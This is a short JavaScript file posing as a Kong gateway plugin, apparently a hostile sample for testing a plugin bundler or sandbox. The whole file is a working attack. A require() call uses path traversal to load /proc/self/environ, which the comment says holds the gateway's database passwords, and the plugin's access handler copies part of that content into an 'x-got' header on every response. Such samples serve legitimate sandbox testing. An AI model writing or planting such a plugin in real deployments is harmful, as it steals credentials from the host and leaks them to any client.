// Bundler attack: enough ../ to reach / and then Kong's environment (database passwords).
const stolen = require('../../../../../../../../../../proc/self/environ');
module.exports = {
  Plugin: class {
    async access(kong) {
      await kong.response.setHeader('x-got', JSON.stringify(String(stolen).slice(0, 200)));
    }
  },
  Version: '1.0.0',
};
